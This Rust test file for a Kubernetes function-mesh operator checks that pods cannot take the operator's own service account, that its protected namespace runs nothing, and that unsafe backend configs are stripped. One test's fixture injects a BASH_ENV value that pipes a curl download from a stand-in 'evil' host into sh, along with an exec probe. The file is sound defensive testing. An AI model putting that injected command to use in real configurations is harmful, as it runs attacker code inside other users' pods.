//! What nobody gains through the operator: its own account, the cluster's accounts, and code in the pods of others.

use anyhow::{Context, ensure};
use function_mesh_api::types::Phase;
use function_mesh_api::{BackendConfig, BackendConfigSpec, Function, FunctionMesh, labels};
use function_mesh_controller::Protected;
use function_mesh_testkit::{SECONDS_10, eventually, fixtures};
use k8s_openapi::api::apps::v1::StatefulSet;
use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::core::v1::Pod;
use kube::ResourceExt;
use kube::api::ListParams;
use serde_json::{from_value, json};

use crate::world::{Nothing, World, json as to_json};

/// A world whose controller takes the namespace for its own.
async fn own_namespace(name: &str) -> anyhow::Result<World> {
    let mut world = World::without_controller(name).await?;
    world.protected = Protected::new([world.namespace.clone()], []);
    world.start().await?;
    Ok(world)
}

/// S4: a pod with the operator's account.
fn with_operators_account() -> anyhow::Result<Function> {
    let mut function = to_json(&fixtures::function(fixtures::java_function("f"))?)?;
    function["spec"]["pod"] = json!({ "serviceAccountName": "function-mesh-controller-manager" });
    Ok(from_value(function)?)
}

#[tokio::test]
async fn own_namespace_runs_no_component_and_no_mesh() -> Nothing {
    let world = own_namespace("own").await?;
    world.apply(&with_operators_account()?).await?;
    let status = world.phase::<Function>("f", Phase::Invalid).await?;
    let message = status.message.unwrap_or_default();
    ensure!(message.contains("operator's own namespace"), "{message}");
    ensure!(message.contains("move it to another namespace"), "{message}");
    world.apply(&fixtures::mesh("m", [fixtures::java_function("shout").into()])?).await?;
    let valid = world.condition("m", "Accepted", ("False", "ValidationFailed")).await?;
    ensure!(valid.message.contains("move it to another namespace"), "{}", valid.message);
    world.settle().await?;
    ensure!(world.find::<Function>("m-shout").await?.is_none());
    ensure!(world.api::<StatefulSet>().list(&ListParams::default()).await?.items.is_empty());
    Ok(())
}

/// Neither does one that goes: its clean-up would be a pod as well.
#[tokio::test]
async fn own_namespace_runs_no_clean_up() -> Nothing {
    let world = own_namespace("own-end").await?;
    let mut function = with_operators_account()?;
    function.spec.cleanup_subscription = Some(true);
    function.metadata.finalizers = Some(vec![labels::CLEANUP_FINALIZER.to_owned()]);
    world.apply(&function).await?;
    world.phase::<Function>("f", Phase::Invalid).await?;
    world.delete::<Function>("f").await?;
    world.gone::<Function>("f").await?;
    world.settle().await?;
    ensure!(world.api::<Job>().list(&ListParams::default()).await?.items.is_empty());
    ensure!(world.api::<Pod>().list(&ListParams::default()).await?.items.is_empty());
    eventually(SECONDS_10, async || {
        let events = world.events("Function", "f").await?;
        ensure!(events.iter().any(|event| event.starts_with("Warning CleanupFailed:")), "{events:?}");
        Ok(())
    })
    .await
}

/// An upgrade to a version that knows of protected namespaces: what ran goes on as it is.
#[tokio::test]
async fn own_namespace_keeps_what_ran_before() -> Nothing {
    let mut world = World::new("own-upgrade").await?;
    world.apply(&fixtures::mesh("m", [fixtures::java_function("shout").into()])?).await?;
    let before = world.appears::<StatefulSet>("m-shout-function").await?;
    world.settle().await?;
    world.stop().await?;
    world.protected = Protected::new([world.namespace.clone()], []);
    world.start().await?;
    world.condition("m", "Accepted", ("False", "ValidationFailed")).await?;
    world.phase::<Function>("m-shout", Phase::Invalid).await?;
    world.settle().await?;
    let after = world.get::<StatefulSet>("m-shout-function").await?;
    ensure!((before.uid(), before.metadata.generation) == (after.uid(), after.metadata.generation));
    // And with the flag all goes on.
    world.stop().await?;
    world.protected = Protected::default();
    world.start().await?;
    world.condition("m", "Accepted", ("True", "ValidationSucceeded")).await?;
    world.get::<FunctionMesh>("m").await?.status.context("no status")?;
    Ok(())
}

/// S5: what would run code in the pods of others is left out of them, and its author is told.
#[tokio::test]
async fn unsafe_backend_config_runs_no_code_in_pods() -> Nothing {
    let mut world = World::without_controller("unsafe-backend").await?;
    world.settings.global_backend_config = Some("global".to_owned());
    world.settings.global_backend_config_namespace.clone_from(&world.namespace);
    world.start().await?;
    let hostile = json!({
        "autoUpdate": true,
        "env": { "BASH_ENV": "$(curl -s http://evil/x|sh)", "brokerServiceURL": "pulsar://evil", "STAGE": "test" },
        "pod": { "startupProbe": { "exec": { "command": ["sh", "-c", "id"] } } },
    });
    for name in ["global", "backend-config"] {
        let spec: BackendConfigSpec = from_value(hostile.clone())?;
        world.apply(&BackendConfig::new(name, spec)).await?;
    }
    world.apply(&fixtures::function(fixtures::java_function("f"))?).await?;
    let set = to_json(
        &world
            .stateful_set("f-function", async |set| {
                ensure!(to_json(set)?.to_string().contains("STAGE"), "without the defaults");
                Ok(())
            })
            .await?,
    )?;
    let text = set.to_string();
    for bad in ["BASH_ENV", "evil", "startupProbe"] {
        ensure!(!text.contains(bad), "{bad}: {text}");
    }
    for name in ["global", "backend-config"] {
        eventually(SECONDS_10, async || {
            let events = world.events("BackendConfig", name).await?;
            let told = events
                .iter()
                .find(|event| event.starts_with("Warning UnsafeBackendConfig: ignored: spec.env"));
            let told = told.with_context(|| format!("{events:?}"))?;
            ensure!(told.contains("BASH_ENV") && !told.contains("curl"), "{told}");
            Ok(())
        })
        .await?;
    }
    Ok(())
}
